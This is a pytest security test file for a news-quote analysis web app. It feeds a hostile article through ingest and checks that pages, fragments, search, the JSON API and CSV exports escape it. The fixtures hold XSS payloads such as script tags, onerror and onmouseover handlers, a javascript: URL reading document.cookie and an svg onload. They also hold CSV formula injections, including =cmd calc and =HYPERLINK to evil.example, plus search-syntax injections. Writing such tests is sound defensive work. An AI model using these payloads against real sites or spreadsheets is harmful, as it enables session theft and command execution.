"""Hostile content: an article whose text, title, URL, publisher, quotes and actor names carry markup,
event handlers, javascript: links, FTS syntax and spreadsheet formulas is loaded through the real
path (a .txt file with a .meta.json sidecar) and must come out as text everywhere: pages, htmx
fragments, chips, facets, search snippets, the chart, the JSON API and the CSV exports. In Chromium
(with the policy bypassed, so that escaping alone is tried): tests/web/test_edge_live.py."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text as sql

from app.ingest import ingest_paths
from app.web import create_app
from app.web.exports import FORMULA_START
from tests.test_security import inline_problems

TOKEN = "hostile-test-token"
BODY = """<script>alert('headline')</script> Kim Jong Un: Nordkorea steht zu Russland
Pjöngjang – Nordkoreas Machthaber Kim Jong Un sagte: „<script>alert(1)</script> Wir stehen fest an der Seite Russlands“, berichtete KCNA.
„\\" onmouseover=\\"alert(2)\\" Die Armee ist bereit“, erklärte Kim Jong Un am Montag.
Nach Angaben des südkoreanischen Geheimdienstes <img src=x onerror=alert(3)> hat Nordkorea mehr als 10.000 Soldaten nach Russland entsandt.
„=HYPERLINK(\\"http://evil.example/?\\"&A1;\\"klick\\") ist keine Formel“, sagte Kim Jong Un.
Die Suche nach NEAR(Kim Putin) OR * -Soldaten ^ title:Kim {x} "Kim darf keinen Fehler machen.
[javascript:alert(4)](javascript:alert(4)) <a href="javascript:alert(5)">Link</a> \x02markiert\x03 ]]> <!-- -->
"""
META = {
    "title": "<script>alert('title')</script> =cmd|' /C calc'!A0 \" onmouseover=\"alert(6)",
    "url": "javascript:alert(document.cookie)",
    "publisher": "\" onmouseover=\"alert(7)\" <b>@SUM(1+1)</b>",
    "credit": "+1-2 <i>dpa</i> javascript:alert(8)",
    "published": "2025-03-01",
    "language": "de",
}
ACTOR = "<img src=x onerror=alert(9)> \" onmouseover=\"alert(10) =Kim"
MEDIA = "-KCNA <svg onload=alert(11)>"
MARKUP = ["<script>", "<img", "<svg onload", "<b>@", "<i>dpa", "<a href=\"javascript"]


@pytest.fixture
def hostile_settings(settings):
    return settings.model_copy(update={"ingest_token": TOKEN, "page_size": 25})


@pytest.fixture
def hostile(engine, tmp_path: Path, seeded):
    return load_hostile(engine, tmp_path)


def load_hostile(engine, tmp_path: Path) -> dict:  # noqa: ANN001
    """The hostile article through the real ingest path, and hostile names for its speaker and channel."""
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "evil.txt").write_text(BODY, encoding="utf-8")
    (folder / "evil.meta.json").write_text(json.dumps(META), encoding="utf-8")
    results = ingest_paths(engine, [folder])
    assert [r.status for r in results] == ["loaded"], results
    article_id = results[0].article_id
    with engine.begin() as conn:  # names an extractor would not produce, but an analyst's correction could
        speakers = conn.execute(sql("SELECT DISTINCT speaker_id FROM quote WHERE article_id = :a AND speaker_id IS NOT NULL"),
                                {"a": article_id}).scalars().all()
        if not speakers:  # the extractor may change; the names under test must not depend on it
            speakers = [conn.execute(sql("INSERT INTO actor (name, kind) VALUES ('placeholder', 'person') RETURNING id"))
                        .scalar_one()]
            conn.execute(sql("INSERT INTO quote (article_id, speaker_id, speaker_text, text, kind, start, \"end\", "
                             "rejected, corrected) VALUES (:a, :s, 'Kim', :t, 'direct', 0, 10, false, false)"),
                         {"a": article_id, "s": speakers[0], "t": "<script>alert(1)</script> Wir stehen"})
        conn.execute(sql("UPDATE actor SET name = :n WHERE id = :i"), {"n": ACTOR, "i": speakers[0]})
        conn.execute(sql("INSERT INTO actor_alias (actor_id, alias, norm) VALUES (:i, :n, :n)"), {"i": speakers[0], "n": ACTOR})
        media = conn.execute(sql("SELECT actor_id FROM quote_via JOIN quote ON quote.id = quote_via.quote_id "
                                 "WHERE quote.article_id = :a"), {"a": article_id}).scalars().first()
        if media is not None:
            conn.execute(sql("UPDATE actor SET name = :n WHERE id = :i"), {"n": MEDIA, "i": media})
    return {"article": article_id, "speaker": speakers[0]}


@pytest.fixture
def hclient(hostile_settings, hostile):
    with TestClient(create_app(hostile_settings)) as c:
        yield c


def pages(h) -> list[str]:  # noqa: ANN001
    a, s = h["article"], h["speaker"]
    return [
        "/", f"/articles/{a}", "/articles", "/articles?q=script", "/quotes", f"/quotes?article={a}",
        f"/quotes?speaker={s}", "/quotes?speaker=%3Cimg+src%3Dx+onerror%3Dalert(9)%3E+%22+onmouseover%3D%22alert(10)+%3DKim",
        "/quotes?publisher=%22+onmouseover%3D%22alert(7)%22+%3Cb%3E%40SUM(1%2B1)%3C%2Fb%3E",
        "/quotes?q=%3Cscript%3E", "/quotes?via=-KCNA", "/estimates", f"/estimates?article={a}", "/estimates?source=x%22%3E%3Cb%3E",
        "/actors", "/actors?q=img", f"/actors/{s}", "/sources", "/search?q=script", "/search?q=onmouseover+alert",
        "/search?q=NEAR(Kim+Putin)+OR+*+-Soldaten+%5E+title%3AKim+%7Bx%7D+%22", "/search?q=markiert", "/audit",
        "/quotes?q=%22+onmouseover%3D%22alert(1)&from=2025-01-01",
    ]


def assert_inert(html: str, where: str) -> None:
    problems = inline_problems(html)
    assert problems == [], (where, problems)
    for markup in MARKUP:
        assert markup not in html, (where, markup)
    assert "javascript:alert(document.cookie)" not in html or 'href="javascript' not in html, where


def test_the_hostile_article_is_text_on_every_page_and_fragment(hclient, hostile):
    for path in pages(hostile):
        for headers in ({}, {"HX-Request": "true"}, {"Authorization": f"Bearer {TOKEN}"}):
            r = hclient.get(path, headers=headers)
            assert r.status_code == 200, (path, headers, r.status_code)
            assert_inert(r.text, f"{path} {headers}")


def test_the_article_page_shows_the_markup_as_text_and_the_url_is_no_link(hclient, hostile):
    html = hclient.get(f"/articles/{hostile['article']}").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(3)&gt;" in html
    assert 'href="javascript:' not in html.lower()
    assert "javascript:alert(document.cookie)" in html  # shown, as text


def test_only_http_urls_become_links(hclient, hostile, engine):
    for url, linked in [("https://example.org/a?b=1&c=2", True), ("http://example.org/", True),
                        ("JaVaScRiPt:alert(1)", False), (" javascript:alert(1)", False), ("data:text/html,x", False),
                        ("//evil.example/", False), ("vbscript:x", False), ("\x01javascript:alert(1)", False)]:
        with engine.begin() as conn:
            conn.execute(sql("UPDATE article SET url = :u WHERE id = :i"), {"u": url, "i": hostile["article"]})
        html = hclient.get(f"/articles/{hostile['article']}").text
        is_link = '" rel="noopener noreferrer">original</a>' in html
        assert is_link is linked, url
        assert_inert(html, url)


def test_facets_and_chips_show_hostile_names_as_text(hclient, hostile):
    r = hclient.get(f"/quotes?speaker={hostile['speaker']}")
    assert "&lt;img src=x onerror=alert(9)&gt;" in r.text
    assert 'class="chip' in r.text
    assert_inert(r.text, "chips")


def test_search_snippets_escape_the_text_and_mark_only_the_hits(hclient, hostile):
    html = hclient.get("/search?q=script").text
    assert "<mark>script</mark>" in html
    assert "&lt;<mark>script</mark>&gt;" in html
    assert_inert(html, "search")


def test_the_json_api_returns_the_strings_as_they_are(hclient, hostile):
    r = hclient.get(f"/api/articles/{hostile['article']}")
    assert r.headers["content-type"] == "application/json" and r.headers["x-content-type-options"] == "nosniff"
    data = r.json()
    assert data["title"] == META["title"] and data["url"] == META["url"]
    assert "<script>alert(1)</script>" in data["body"]


@pytest.mark.parametrize("export", ["quotes", "estimates", "articles", "actors", "sources"])
def test_no_csv_cell_starts_a_formula(hclient, hostile, export):
    r = hclient.get(f"/{export}.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    cells = [c for row in rows[1:] for c in row]
    assert cells
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    joined = "\n".join(cells)
    if export == "articles":
        assert "'" + META["title"] in cells or any(c.startswith("'<script>") is False and META["title"] in c for c in cells)
        assert "'\" onmouseover" not in joined  # a leading quote only where a formula would start
        assert "'+1-2 <i>dpa</i> javascript:alert(8)" in cells
    if export == "actors":
        assert "'" + MEDIA in cells or MEDIA not in joined
    if export == "quotes":
        assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_fts_syntax_in_any_search_box_is_only_words(hclient, hostile):
    for q in ['"', "NEAR(", "*", "a OR", "-x", "^", "title:Kim", "{x}", "(", "AND", "'", "\\", "%", "_", "\x00", "💥"]:
        for path in ("/search", "/quotes", "/articles", "/api/quotes", "/api/articles", "/quotes.csv"):
            r = hclient.get(path, params={"q": q})
            assert r.status_code == 200, (path, q, r.text[:200])
